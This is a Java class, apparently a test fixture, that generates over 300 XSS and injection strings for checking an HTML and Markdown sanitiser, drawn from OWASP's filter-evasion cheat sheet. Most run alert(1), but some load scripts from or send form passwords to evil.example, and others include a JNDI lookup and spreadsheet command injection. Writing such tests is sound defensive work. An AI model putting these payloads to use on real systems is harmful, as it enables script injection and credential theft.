package org.imprimatur.web;

import java.util.List;
import java.util.stream.Stream;

/**
 * Texts of people who want a browser to do something: each shape that OWASP's cheat sheet on filter
 * evasion names, in HTML and in Markdown, behind each way out of the place it may stand in. What
 * runs calls {@code alert}.
 *
 * @see <a
 *     href="https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html">
 *     OWASP: XSS filter evasion</a>
 */
public final class HostileText {
  private static final List<String> TARGETS =
      List.of(
          "javascript:alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:image/svg+xml,<svg onload=alert(1)>",
          "vbscript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "&#106;avascript:alert(1)",
          "&#x6A&#x61&#x76&#x61script:alert(1)",
          "javascript&colon;alert(1)",
          "javascript&#0000058alert(1)",
          " javascript:alert(1)",
          "javascript://example.org/%0aalert(1)",
          "https://e.example/\"onmouseover=\"alert(1)",
          "//evil.example/x",
          "\\\\evil.example\\x",
          "file:///etc/passwd",
          "blob:x",
          "feed:javascript:alert(1)",
          "view-source:javascript:alert(1)");

  private static final List<String> ELEMENTS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<script type=module>alert(1)</script>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<img src=x onerror=\"alert(1)\"//",
          "<img/src=x/onerror=alert(1)>",
          "<img src=//evil.example/pixel.png>",
          "<svg onload=alert(1)>",
          "<svg/onload=alert(1)//",
          "<svg><script>alert(1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
          "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
          "<iframe src=javascript:alert(1)></iframe>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<object data=javascript:alert(1)></object>",
          "<embed src=javascript:alert(1)>",
          "<body onload=alert(1)>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<marquee onstart=alert(1)>",
          "<video><source onerror=alert(1)></video>",
          "<style>@import '//evil.example/x.css'</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<p style=\"background:url(//evil.example/x)\">x</p>",
          "<a href=javascript:alert(1)>x</a>",
          "<form action=//evil.example><input name=password><button>x</button></form>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<template><script>alert(1)</script></template>",
          "<div hx-get=/me hx-trigger=load>",
          "<button hx-post=/sign-out hx-trigger=load>x</button>",
          "<x contenteditable onblur=alert(1)>",
          "<!--><img src=x onerror=alert(1)>-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?xml version=\"1.0\"?><script>alert(1)</script>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&amp;lt;script&amp;gt;alert(1)");

  /** Ways out of a tag's content, an attribute, a comment, a script, XML and a template. */
  private static final List<String> WAYS_OUT =
      List.of("", "\">", "'>", "</title>", "</textarea>", "--></style></script>", "]]>");

  private static final List<String> OTHERS =
      List.of(
          "```\n</code></pre><script>alert(1)</script>\n```",
          "`<script>alert(1)</script>`",
          "[x](https://e.example \"onmouseover=alert(1)\")",
          "[x](https://e.example 'x\" onmouseover=\"alert(1)')",
          "[<img src=x onerror=alert(1)>](https://e.example)",
          "<https://e.example/\"onmouseover=\"alert(1)>",
          "[x](https://e.example/\"><script>alert(1)</script>)",
          "![\" onerror=\"alert(1)](x)",
          "> <script>\n> alert(1)\n> </script>",
          "* <svg\n* onload=alert(1)>",
          "{title}{#raw}{x.raw}{/raw}",
          "{inject:settings.baseUrl}{cdi:settings}",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)} #{alert(1)} <%= alert(1) %>",
          "${jndi:ldap://evil.example/x}",
          "\" autofocus onfocus=\"alert(1)",
          "' autofocus onfocus='alert(1)",
          "\u202Etxt.exe\u202C <script>alert(1)</script>",
          "\u2066<\u2069script\u200B>alert(1)</script>",
          "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
          "\u2028</script><script>alert(1)//\u2029",
          "=HYPERLINK(\"//evil.example\",\"x\")",
          "@SUM(1+1)*cmd|' /C calc'!A0");

  private HostileText() {}

  /** All of them, more than 300. */
  public static List<String> all() {
    Stream<String> links =
        TARGETS.stream()
            .flatMap(
                to ->
                    Stream.of(
                        "[x](" + to + ")",
                        "[x](<" + to + ">)",
                        "![x](" + to + ")",
                        "<" + to + ">",
                        "[x]: " + to + "\n\n[x]",
                        "[![x](" + to + ")](" + to + ")"));
    Stream<String> elements =
        ELEMENTS.stream().flatMap(text -> WAYS_OUT.stream().map(way -> way + text));
    return Stream.of(links, elements, OTHERS.stream()).flatMap(texts -> texts).toList();
  }
}
